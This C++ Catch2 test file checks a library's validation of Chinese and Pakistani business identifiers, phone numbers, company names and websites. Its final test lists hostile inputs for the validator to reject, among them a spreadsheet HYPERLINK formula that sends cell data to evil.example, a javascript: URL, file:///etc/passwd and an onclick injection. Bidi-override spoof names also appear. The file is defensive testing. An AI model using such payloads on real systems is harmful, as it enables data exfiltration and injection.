#include "dosti/validation.h"

#include <string>
#include <string_view>

#include <catch2/catch.hpp>

#include "dosti/text.h"

using dosti::CheckIdentifier;
using dosti::ErrorCode;
using dosti::IdentifierCheck;
using dosti::IdentifierType;
using dosti::Severity;

namespace {

// The message of a failed result, or "" when it succeeded (so a CHECK shows it on failure).
template <typename R>
std::string ErrorMessage(const R& r) {
  return r ? std::string() : r.error().message;
}

}  // namespace

// [SECTION] Identifier codes

TEST_CASE("Identifier type and check codes round-trip", "[core][validation]") {
  for (IdentifierType t :
       {IdentifierType::kCnUscc, IdentifierType::kCnLegacyRegno, IdentifierType::kPkSecp,
        IdentifierType::kPkNtn, IdentifierType::kPkNtnCnic, IdentifierType::kOther}) {
    CHECK(dosti::ParseIdentifierType(dosti::IdentifierTypeCode(t)) == t);
  }
  CHECK(dosti::IdentifierTypeCode(IdentifierType::kCnUscc) == "CN_USCC");
  CHECK(dosti::IdentifierTypeCode(IdentifierType::kPkNtnCnic) == "PK_NTN_CNIC");
  CHECK_FALSE(dosti::ParseIdentifierType("USCC"));
  CHECK_FALSE(dosti::ParseIdentifierType(""));
  CHECK(dosti::IdentifierCheckCode(IdentifierCheck::kValid) == "valid");
  CHECK(dosti::IdentifierCheckCode(IdentifierCheck::kChecksumWarning) == "checksum_warning");
  CHECK(dosti::IdentifierCheckCode(IdentifierCheck::kFormatOnly) == "format_only");
}

TEST_CASE("Identifiers normalise to upper-case ASCII without spaces or dashes",
          "[core][validation]") {
  CHECK(dosti::NormaliseIdentifier("９１１１００００６０００３７３４１Ｌ") == "91110000600037341L");
  CHECK(dosti::NormaliseIdentifier(" 9111 0000-6000 3734 1l ") == "91110000600037341L");
  CHECK(dosti::NormaliseIdentifier("1234567\u20138") == "12345678");  // en dash
  CHECK(dosti::NormaliseIdentifier("cuin-0012345") == "CUIN0012345");
  CHECK(dosti::NormaliseIdentifier("۱۲۳۴۵۶۷-۸") == "12345678");  // Urdu keyboard digits
}

// [SECTION] China USCC (GB 32100-2015)

TEST_CASE("The USCC check character follows GB 32100-2015", "[core][validation][uscc]") {
  CHECK(dosti::UsccCheckCharacter("91110000600037341") == 'L');
  CHECK(dosti::UsccCheckCharacter("91230184MA1BUFLT4") == '4');
  CHECK(dosti::UsccCheckCharacter("91110108772551611") == 'J');
  CHECK(dosti::UsccCheckCharacter("9111000060003734") == '\0');   // 16 characters
  CHECK(dosti::UsccCheckCharacter("9111000060003734I") == '\0');  // I is not in the alphabet
}

TEST_CASE("Valid USCCs pass with the check state valid", "[core][validation][uscc]") {
  for (const char* code : {"91110000600037341L", "91230184MA1BUFLT44", "91110108772551611J"}) {
    const auto r = CheckIdentifier(IdentifierType::kCnUscc, code);
    REQUIRE(r);
    CHECK(r->type == IdentifierType::kCnUscc);
    CHECK(r->value == code);
    CHECK(r->check == IdentifierCheck::kValid);
    CHECK(r->warnings.empty());
  }
}

TEST_CASE("Real USCCs that fail the check character save with a warning",
          "[core][validation][uscc]") {
  for (const char* code : {"91350100M0001TGQXM", "91350203M0001QAY9B"}) {
    const auto r = CheckIdentifier(IdentifierType::kCnUscc, code);
    REQUIRE(r);
    CHECK(r->value == code);
    CHECK(r->check == IdentifierCheck::kChecksumWarning);
    REQUIRE(r->warnings.size() == 1);
    CHECK(r->warnings[0].severity == Severity::kWarning);
    CHECK(r->warnings[0].code == ErrorCode::kBadIdentifier);
    CHECK(r->warnings[0].field == "uscc");
    CHECK_THAT(r->warnings[0].message, Catch::Contains("check character"));
  }
}

TEST_CASE("A USCC typed with a Chinese IME normalises to ASCII", "[core][validation][uscc]") {
  const auto r = CheckIdentifier(IdentifierType::kCnUscc, "９１１１００００６０００３７３４１Ｌ");
  REQUIRE(r);
  CHECK(r->value == "91110000600037341L");
  CHECK(r->check == IdentifierCheck::kValid);

  const auto spaced = CheckIdentifier(IdentifierType::kCnUscc, " 9123 0184-ma1b uflt44 ");
  REQUIRE(spaced);
  CHECK(spaced->value == "91230184MA1BUFLT44");
}

TEST_CASE("A USCC that does not match the format is an error", "[core][validation][uscc]") {
  const auto short_code = CheckIdentifier(IdentifierType::kCnUscc, "91110000600037341");
  REQUIRE_FALSE(short_code);
  CHECK(short_code.error().code == ErrorCode::kBadIdentifier);
  CHECK(short_code.error().field == "uscc");
  CHECK(short_code.error().message ==
        "USCC must be 18 characters from 0-9 and A-Z without I, O, S, V, Z; got 17.");

  CHECK_THAT(ErrorMessage(CheckIdentifier(IdentifierType::kCnUscc, "91110000600037341LL")),
             Catch::Contains("got 19"));
  // Each letter outside the alphabet, in a position that would otherwise be fine.
  for (char bad : {'I', 'O', 'S', 'V', 'Z'}) {
    std::string code = "91110000600037341L";
    code[10] = bad;
    const auto r = CheckIdentifier(IdentifierType::kCnUscc, code);
    REQUIRE_FALSE(r);
    CHECK(r.error().code == ErrorCode::kBadIdentifier);
    CHECK_THAT(r.error().message, Catch::Contains(std::string("'") + bad + "' at position 11"));
  }
  // Characters 3-8 (the region code) must be digits.
  const auto letter_region = CheckIdentifier(IdentifierType::kCnUscc, "911A0000600037341L");
  REQUIRE_FALSE(letter_region);
  CHECK_THAT(letter_region.error().message, Catch::Contains("position 4"));
  // Punctuation and Chinese characters are not part of a code.
  CHECK_FALSE(CheckIdentifier(IdentifierType::kCnUscc, "91110000600037341."));
  CHECK_FALSE(CheckIdentifier(IdentifierType::kCnUscc, "9111000060003734华L"));
  CHECK_FALSE(CheckIdentifier(IdentifierType::kCnUscc, ""));
  CHECK_FALSE(CheckIdentifier(IdentifierType::kCnUscc, " - "));
  CHECK_FALSE(CheckIdentifier(IdentifierType::kCnUscc, std::string("91110000600037341\xFF")));
}

// [SECTION] China legacy registration number

TEST_CASE("A legacy 15-digit registration number saves with a warning to ask for the USCC",
          "[core][validation]") {
  const auto r = CheckIdentifier(IdentifierType::kCnLegacyRegno, "110108 000123456");
  REQUIRE(r);
  CHECK(r->type == IdentifierType::kCnLegacyRegno);
  CHECK(r->value == "110108000123456");
  CHECK(r->check == IdentifierCheck::kFormatOnly);
  REQUIRE(r->warnings.size() == 1);
  CHECK(r->warnings[0].severity == Severity::kWarning);
  CHECK_THAT(r->warnings[0].message, Catch::Contains("ask for the 18-character USCC"));

  CHECK_FALSE(CheckIdentifier(IdentifierType::kCnLegacyRegno, "010108000123456"));  // leading 0
  CHECK_FALSE(CheckIdentifier(IdentifierType::kCnLegacyRegno, "11010800012345"));   // 14
  CHECK_FALSE(CheckIdentifier(IdentifierType::kCnLegacyRegno, "11010800012345X"));
}

TEST_CASE("A China number filed under the other China type is reclassified by its length",
          "[core][validation]") {
  const auto legacy = CheckIdentifier(IdentifierType::kCnUscc, "110108000123456");
  REQUIRE(legacy);
  CHECK(legacy->type == IdentifierType::kCnLegacyRegno);
  CHECK(legacy->warnings.size() == 1);

  const auto uscc = CheckIdentifier(IdentifierType::kCnLegacyRegno, "91110000600037341L");
  REQUIRE(uscc);
  CHECK(uscc->type == IdentifierType::kCnUscc);
  CHECK(uscc->check == IdentifierCheck::kValid);
}

// [SECTION] Pakistan NTN and SECP

TEST_CASE("An NTN is stored as 8 digits and displayed as NNNNNNN-N", "[core][validation][pk]") {
  const auto r = CheckIdentifier(IdentifierType::kPkNtn, "1234567-8");
  REQUIRE(r);
  CHECK(r->type == IdentifierType::kPkNtn);
  CHECK(r->value == "12345678");
  CHECK(r->check == IdentifierCheck::kFormatOnly);
  CHECK(r->warnings.empty());
  CHECK(dosti::DisplayIdentifier(IdentifierType::kPkNtn, r->value) == "1234567-8");

  const auto full_width = CheckIdentifier(IdentifierType::kPkNtn, "０７６５４３２－１");
  REQUIRE(full_width);
  CHECK(full_width->value == "07654321");

  const auto seven = CheckIdentifier(IdentifierType::kPkNtn, "1234567");
  REQUIRE_FALSE(seven);
  CHECK(seven.error().code == ErrorCode::kBadIdentifier);
  CHECK(seven.error().field == "ntn");
  CHECK_THAT(seven.error().message, Catch::Contains("got 7 digits"));
  CHECK_FALSE(CheckIdentifier(IdentifierType::kPkNtn, "123456789"));
  CHECK_THAT(ErrorMessage(CheckIdentifier(IdentifierType::kPkNtn, "12345A7-8")),
             Catch::Contains("'A' at position 6"));
}

TEST_CASE("A 13-digit NTN is reclassified as a CNIC-form NTN", "[core][validation][pk]") {
  const auto r = CheckIdentifier(IdentifierType::kPkNtn, "35202-1234567-1");
  REQUIRE(r);
  CHECK(r->type == IdentifierType::kPkNtnCnic);
  CHECK(r->value == "3520212345671");
  CHECK(r->check == IdentifierCheck::kFormatOnly);
  CHECK(dosti::DisplayIdentifier(IdentifierType::kPkNtnCnic, r->value) == "35202-1234567-1");

  const auto direct = CheckIdentifier(IdentifierType::kPkNtnCnic, "3520212345671");
  REQUIRE(direct);
  CHECK(direct->type == IdentifierType::kPkNtnCnic);
  // An 8-digit number filed as CNIC-form is an ordinary NTN.
  const auto ntn = CheckIdentifier(IdentifierType::kPkNtnCnic, "1234567-8");
  REQUIRE(ntn);
  CHECK(ntn->type == IdentifierType::kPkNtn);
  CHECK_FALSE(CheckIdentifier(IdentifierType::kPkNtnCnic, "35202-123456-1"));
}

TEST_CASE("A SECP company number keeps leading zeros and loses a CUIN- prefix",
          "[core][validation][pk]") {
  for (const char* raw : {"0012345", "CUIN-0012345", "cuin 0012345", "ＣＵＩＮ－００１２３４５"}) {
    const auto r = CheckIdentifier(IdentifierType::kPkSecp, raw);
    REQUIRE(r);
    CHECK(r->type == IdentifierType::kPkSecp);
    CHECK(r->value == "0012345");
    CHECK(r->check == IdentifierCheck::kFormatOnly);
    CHECK(dosti::DisplayIdentifier(IdentifierType::kPkSecp, r->value) == "0012345");
  }
  const auto r = CheckIdentifier(IdentifierType::kPkSecp, "12345");
  REQUIRE_FALSE(r);
  CHECK(r.error().field == "secp");
  CHECK_FALSE(CheckIdentifier(IdentifierType::kPkSecp, "CUIN-"));
  CHECK_FALSE(CheckIdentifier(IdentifierType::kPkSecp, "00123456"));
}

TEST_CASE("Other identifiers are normalised and only checked for sanity", "[core][validation]") {
  const auto r = CheckIdentifier(IdentifierType::kOther, " hrb-12345 ");
  REQUIRE(r);
  CHECK(r->value == "HRB12345");
  CHECK(r->check == IdentifierCheck::kFormatOnly);
  CHECK_FALSE(CheckIdentifier(IdentifierType::kOther, ""));
  CHECK_FALSE(CheckIdentifier(IdentifierType::kOther, std::string("A\x01") + "B"));
  CHECK_FALSE(CheckIdentifier(IdentifierType::kOther, std::string(65, 'A')));
}

// [SECTION] Phones

TEST_CASE("Phone numbers from DOMAIN.md normalise to E.164", "[core][validation][phone]") {
  struct Case {
    const char* raw;
    const char* country;
    const char* e164;
    bool mobile;
  };
  for (const Case& c : {Case{"138 0013 8000", "CN", "+8613800138000", true},
                        Case{"１３８００１３８０００", "CN", "+8613800138000", true},
                        Case{"0300-1234567", "PK", "+923001234567", true},
                        Case{"0092 300 1234567", "PK", "+923001234567", true},
                        Case{"010-6512 3456", "CN", "+861065123456", false}}) {
    INFO(c.raw);
    const auto r = dosti::NormalisePhone(c.raw, c.country);
    REQUIRE(r);
    CHECK(r->e164 == c.e164);
    CHECK(r->plausible_mobile == c.mobile);
    CHECK(r->warnings.size() == (c.mobile ? 0u : 1u));
  }
}

TEST_CASE("A Chinese landline in a mobile field is saved with a warning",
          "[core][validation][phone]") {
  const auto r = dosti::NormalisePhone("010-6512 3456", "CN", "mobile");
  REQUIRE(r);
  CHECK(r->e164 == "+861065123456");
  CHECK_FALSE(r->plausible_mobile);
  REQUIRE(r->warnings.size() == 1);
  CHECK(r->warnings[0].severity == Severity::kWarning);
  CHECK(r->warnings[0].code == ErrorCode::kBadPhone);
  CHECK(r->warnings[0].field == "mobile");
  CHECK_THAT(r->warnings[0].message, Catch::Contains("not a plausible Chinese mobile"));

  // An office phone is expected to be a landline.
  const auto office = dosti::NormalisePhone("010-6512 3456", "CN", "office_phone");
  REQUIRE(office);
  CHECK_FALSE(office->plausible_mobile);
  CHECK(office->warnings.empty());
}

TEST_CASE("Mobile plausibility follows the CN and PK patterns", "[core][validation][phone]") {
  CHECK(dosti::NormalisePhone("19912345678", "CN")->plausible_mobile);
  CHECK_FALSE(dosti::NormalisePhone("12912345678", "CN")->plausible_mobile);  // 1[3-9] only
  CHECK_FALSE(dosti::NormalisePhone("1391234567", "CN")->plausible_mobile);   // 10 digits
  CHECK(dosti::NormalisePhone("03451234567", "PK")->plausible_mobile);
  CHECK_FALSE(dosti::NormalisePhone("051 1234567", "PK")->plausible_mobile);  // Islamabad line
  const auto uk = dosti::NormalisePhone("+44 20 7946 0958", "PK");
  REQUIRE(uk);
  CHECK_FALSE(uk->plausible_mobile);
  REQUIRE(uk->warnings.size() == 1);
  CHECK_THAT(uk->warnings[0].message, Catch::Contains("neither a Chinese nor a Pakistani"));
}

TEST_CASE("A number starting with + keeps its country code whatever the enterprise country",
          "[core][validation][phone]") {
  CHECK(dosti::NormalisePhone("+92 300 1234567", "CN")->e164 == "+923001234567");
  CHECK(dosti::NormalisePhone("+86 138 0013 8000", "PK")->e164 == "+8613800138000");
  CHECK(dosti::NormalisePhone("＋８６ １３８ ００１３ ８０００", "PK")->e164 == "+8613800138000");
  CHECK(dosti::NormalisePhone("0086 138 0013 8000", "PK")->e164 == "+8613800138000");
  CHECK(dosti::NormalisePhone("+1 (415) 555-0100", "CN")->e164 == "+14155550100");
  // The national number follows the enterprise country.
  CHECK(dosti::NormalisePhone("0300-1234567", "CN")->e164 == "+863001234567");
  CHECK(dosti::NormalisePhone("0300-1234567", "pk")->e164 == "+923001234567");
}

TEST_CASE("A trunk zero written after the country code is dropped", "[core][validation][phone]") {
  CHECK(dosti::NormalisePhone("+86 (0)10 6512 3456", "PK")->e164 == "+861065123456");
  CHECK(dosti::NormalisePhone("+92 (0)300 1234567", "CN")->e164 == "+923001234567");
}

TEST_CASE("A country code typed without + or 00 is recognised and not doubled",
          "[core][validation][phone]") {
  struct Case {
    const char* raw;
    const char* country;
    const char* e164;
  };
  // Each as libphonenumber parses it for the region (python3-phonenumbers 8.12.57), except
  // the last three, which it leaves as national numbers (see below).
  for (const Case& c : {Case{"86 138 0013 8000", "CN", "+8613800138000"},
                        Case{"8613800138000", "CN", "+8613800138000"},
                        Case{"92 300 1234567", "PK", "+923001234567"},
                        Case{"86 10 6512 3456", "CN", "+861065123456"},
                        Case{"86 010 6512 3456", "CN", "+861065123456"},
                        Case{"86 571 8765 4321", "CN", "+8657187654321"},
                        Case{"92 21 3456 7890", "PK", "+922134567890"},
                        Case{"92 42 3576 1234", "PK", "+924235761234"},
                        Case{"92 928 612345", "PK", "+92928612345"},
                        Case{"92 0300 1234567", "PK", "+923001234567"},
                        Case{"８６ １３８ ００１３ ８０００", "CN", "+8613800138000"},
                        Case{"۹۲ ۳۰۰ ۱۲۳۴۵۶۷", "PK", "+923001234567"},
                        // National numbers that begin like the country code stay national.
                        Case{"928 612345", "PK", "+92928612345"},
                        Case{"922 111 123456", "PK", "+92922111123456"},
                        Case{"8612 3456", "CN", "+8686123456"},
                        // The other programme country's mobiles, which cannot be national
                        // numbers here (a 12-digit CN number never begins with 9; PK numbers
                        // have at most 12 digits).
                        Case{"92 300 1234567", "CN", "+923001234567"},
                        Case{"86 138 0013 8000", "PK", "+8613800138000"},
                        // A trunk 0 after 92: libphonenumber keeps +92 920222812476, which no
                        // PK number type admits.
                        Case{"92 0222 812476", "PK", "+92222812476"}}) {
    INFO(c.raw << " for " << c.country);
    for (const char* field : {"mobile", "office_phone"}) {
      const auto r = dosti::NormalisePhone(c.raw, c.country, field);
      REQUIRE(r);
      CHECK(r->e164 == c.e164);
    }
  }
  // The DOMAIN.md vectors are unchanged.
  CHECK(dosti::NormalisePhone("0086 138 0013 8000", "PK")->e164 == "+8613800138000");
  CHECK(dosti::NormalisePhone("0300-1234567", "CN")->e164 == "+863001234567");
}

TEST_CASE("An office phone without its area code is saved with a warning",
          "[core][validation][phone]") {
  const auto beijing = dosti::NormalisePhone("6512 3456", "CN", "office_phone");
  REQUIRE(beijing);
  CHECK(beijing->e164 == "+8665123456");
  REQUIRE(beijing->warnings.size() == 1);
  CHECK(beijing->warnings[0].severity == Severity::kWarning);
  CHECK(beijing->warnings[0].code == ErrorCode::kBadPhone);
  CHECK(beijing->warnings[0].field == "office_phone");
  CHECK(beijing->warnings[0].key == "phone.no_area_code_cn");
  CHECK_THAT(beijing->warnings[0].message, Catch::Contains("+8665123456") &&
                                               Catch::Contains("without its area code"));

  const auto islamabad = dosti::NormalisePhone("234 5678", "PK", "office_phone");
  REQUIRE(islamabad);
  REQUIRE(islamabad->warnings.size() == 1);
  CHECK(islamabad->warnings[0].key == "phone.no_area_code_pk");

  // With the area code, and Pakistan's toll-free numbers, which have none by design.
  for (const char* raw : {"010-6512 3456", "+86 10 6512 3456", "0571 8765 4321"}) {
    INFO(raw);
    CHECK(dosti::NormalisePhone(raw, "CN", "office_phone")->warnings.empty());
  }
  for (const char* raw : {"051 234 5678", "021 3456 7890", "0800 12345", "0300 1234567"}) {
    INFO(raw);
    CHECK(dosti::NormalisePhone(raw, "PK", "office_phone")->warnings.empty());
  }
  // A mobile field says that it is no mobile, once.
  const auto mobile = dosti::NormalisePhone("6512 3456", "CN", "mobile");
  REQUIRE(mobile->warnings.size() == 1);
  CHECK(mobile->warnings[0].key == "phone.not_cn_mobile");
}

TEST_CASE("Urdu keyboard digits count as digits in a phone number", "[core][validation][phone]") {
  CHECK(dosti::NormalisePhone("۰۳۰۰-۱۲۳۴۵۶۷", "PK")->e164 == "+923001234567");
}

TEST_CASE("Phones with letters or too few or too many digits are errors",
          "[core][validation][phone]") {
  for (const char* raw : {"138 0013 800O", "call 13800138000", "12345", "+86 123456", "", "  ", "+",
                          "+86 138 0013 8000 1234", "0086 12345678901234", "138+0013",
                          "+0 123 4567 890", "13800138000 ext 12", "微信 138", "+9", "+86", "00"}) {
    INFO(raw);
    const auto r = dosti::NormalisePhone(raw, "CN", "mobile");
    REQUIRE_FALSE(r);
    CHECK(r.error().code == ErrorCode::kBadPhone);
    CHECK(r.error().field == "mobile");
  }
  CHECK_THAT(ErrorMessage(dosti::NormalisePhone("138abc", "CN")), Catch::Contains("remove 'a'"));
  CHECK_THAT(ErrorMessage(dosti::NormalisePhone("12345", "CN")), Catch::Contains("only 5 digits"));
  // E.164 allows 15 digits: the longest still passes.
  CHECK(dosti::NormalisePhone("+49 1234 5678 9012 3", "CN"));
  CHECK_FALSE(dosti::NormalisePhone("+49 1234 5678 9012 34", "CN"));
  // 7 national digits are the minimum.
  CHECK(dosti::NormalisePhone("+44 1234567", "CN"));
  CHECK_FALSE(dosti::NormalisePhone("+44 123456", "CN"));
}

TEST_CASE("A national number needs the enterprise country CN or PK", "[core][validation][phone]") {
  const auto r = dosti::NormalisePhone("13800138000", "");
  REQUIRE_FALSE(r);
  CHECK(r.error().code == ErrorCode::kBadPhone);
  CHECK(dosti::NormalisePhone("+8613800138000", ""));
}

// [SECTION] Names

TEST_CASE("Names are trimmed, normalised to NFC and returned", "[core][validation][name]") {
  CHECK(dosti::CheckName("  华为技术有限公司 ").value() == "华为技术有限公司");
  CHECK(dosti::CheckName("Cafe\u0301 Dosti").value() == "Caf\u00E9 Dosti");
  CHECK(dosti::CheckName("\u3000پاکستان\u3000").value() == "پاکستان");
  // Right-to-left and zero-width marks are legitimate in Urdu and stay.
  CHECK(dosti::CheckName("\u200Fعلی\u200C").value() == "\u200Fعلی\u200C");
}

TEST_CASE("Empty, over-long and control-character names are errors", "[core][validation][name]") {
  for (const std::string& raw :
       {std::string(""), std::string(" \u3000\t"), std::string("Sys\ttems"), std::string("A\nB"),
        std::string("A\x7F"), std::string("A\u0085B"), std::string("A\0B", 3)}) {
    const auto r = dosti::CheckName(raw, "legal_name");
    REQUIRE_FALSE(r);
    CHECK(r.error().code == ErrorCode::kBadName);
    CHECK(r.error().field == "legal_name");
  }
  std::string longest;
  for (int i = 0; i < 300; ++i) longest += "华";
  CHECK(dosti::CheckName(longest));
  const auto too_long = dosti::CheckName(longest + "为");
  REQUIRE_FALSE(too_long);
  CHECK_THAT(too_long.error().message, Catch::Contains("301"));
}

TEST_CASE("Bidi override and isolate characters in a name are errors", "[core][validation][name]") {
  for (char32_t c : {0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069}) {
    // Renders as "Systems Ltd" when the override reverses what follows it.
    std::u32string spoof = U"Systems ";
    spoof.push_back(c);
    spoof += U"dtL";
    const std::string utf8 = dosti::text::FromCodePoints(spoof);
    const auto r = dosti::CheckName(utf8);
    REQUIRE_FALSE(r);
    CHECK(r.error().code == ErrorCode::kBadName);
    CHECK(r.error().field == "name");
  }
}

TEST_CASE("A name that is not valid UTF-8 is an error", "[core][validation][name]") {
  const auto r = dosti::CheckName(std::string("Syst\xE9ms"));  // Latin-1, not UTF-8
  REQUIRE_FALSE(r);
  CHECK(r.error().code == ErrorCode::kBadName);
}

// [SECTION] Name keys

TEST_CASE("Chinese legal suffixes do not change the name key", "[core][validation][namekey]") {
  CHECK(dosti::NameKey("华为技术有限公司") == dosti::NameKey("华为技术"));
  CHECK(dosti::NameKey("华为技术有限公司") == "华为技术");
  CHECK(dosti::NameKey("比亚迪股份有限公司") == "比亚迪");
  CHECK(dosti::NameKey("京东方科技集团股份有限公司") == "京东方科技");
  CHECK(dosti::NameKey("中国建筑集团有限公司") == "中国建筑");
  CHECK(dosti::NameKey("北京字节跳动科技有限责任公司") == "北京字节跳动科技");
  CHECK(dosti::NameKey(" 华为技术 有限公司 ") == "华为技术");
}

TEST_CASE("English and Pakistani legal suffixes do not change the name key",
          "[core][validation][namekey]") {
  const std::string key = dosti::NameKey("Systems Ltd");
  CHECK(key == "systems");
  for (const char* name :
       {"SYSTEMS LIMITED", "Systems (Pvt.) Ltd", "Ｓｙｓｔｅｍｓ Ltd.", "Systems (Private) Limited",
        "Systems Pvt Ltd", "Systems Pvt. Ltd.", "Systems Private Limited",
        "Systems SMC-Private Limited", "Systems (SMC-Pvt.) Ltd.", "Systems SMC", "Systems Co.",
        "Systems Co", "Systems Company", "Systems Inc", "Systems Corp.", "Systems Co., Ltd.",
        "  systems  "}) {
    INFO(name);
    CHECK(dosti::NameKey(name) == key);
  }
}

TEST_CASE("Suffixes are stripped only as whole words", "[core][validation][namekey]") {
  CHECK(dosti::NameKey("Pepsico") == "pepsico");
  CHECK(dosti::NameKey("Telco Ltd") == "telco");
  CHECK(dosti::NameKey("Incorp Systems") == "incorpsystems");
  CHECK(dosti::NameKey("Private Systems Ltd") == "privatesystems");
}

TEST_CASE("A name that is only a legal suffix keeps a non-empty key",
          "[core][validation][namekey]") {
  CHECK(dosti::NameKey("Limited") == "limited");
  CHECK(dosti::NameKey("有限公司") == "有限公司");
  CHECK(dosti::NameKey("Pvt Ltd") == "pvtltd");
  CHECK(dosti::NameKey("(Private) Limited") == "privatelimited");
}

TEST_CASE("Name keys ignore case, width, spaces and punctuation", "[core][validation][namekey]") {
  CHECK(dosti::NameKey("Jazz") == dosti::NameKey("JAZZ"));
  CHECK(dosti::NameKey("K-Electric") == dosti::NameKey("K Electric"));
  CHECK(dosti::NameKey("AT&T Inc.") == "att");
  CHECK(dosti::NameKey("华为技术（深圳）有限公司") == "华为技术深圳");
  CHECK(dosti::NameKey("Cafe\u0301") == dosti::NameKey("CAFÉ"));
  CHECK(dosti::NameKey("جاز، پاکستان") == "جازپاکستان");
  CHECK(dosti::NameKey("جـاز") == "جاز");                 // tatweel
  CHECK(dosti::NameKey("华为\u200B技术") == "华为技术");  // an invisible zero-width space
  CHECK(dosti::NameKey("...").empty());
}

TEST_CASE("A website must look like a web address", "[core][validation][website]") {
  for (std::string_view ok :
       {"https://www.huawei.com", "http://systemsltd.com/en/about?x=1#top", "huawei.com",
        "www.systemsltd.com:8080/pk", "HTTPS://WWW.Huawei.COM", "华为.中国", "203.0.113.7/x"}) {
    INFO(ok);
    auto r = dosti::CheckWebsite(ok);
    REQUIRE(r);
    CHECK(*r == ok);  // kept as given
  }
  // Full-width letters and the ideographic full stop of a Chinese IME become ASCII.
  CHECK(dosti::CheckWebsite("ｗｗｗ。huawei。com") == std::string("www.huawei.com"));
  CHECK(dosti::CheckWebsite("  huawei.com  ") == std::string("huawei.com"));
  for (std::string_view bad :
       {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "javascript:alert(1)",
        "file:///etc/passwd", "mailto:info@huawei.com", "https://user@huawei.com",
        "www.huawei .com", "huawei", "localhost:8080", "http://", "https://-huawei.com",
        "http://huawei.com\"onclick", "<huawei.com>", "1.2.3.4.5", "huawei.123", "@SUM(1,2)",
        "+huawei.com", ""}) {
    INFO(bad);
    auto r = dosti::CheckWebsite(bad);
    REQUIRE_FALSE(r);
    CHECK(r.error().code == ErrorCode::kInvalid);
    CHECK(r.error().key == "enterprise.bad_website");
    CHECK(r.error().field == "website");
  }
}
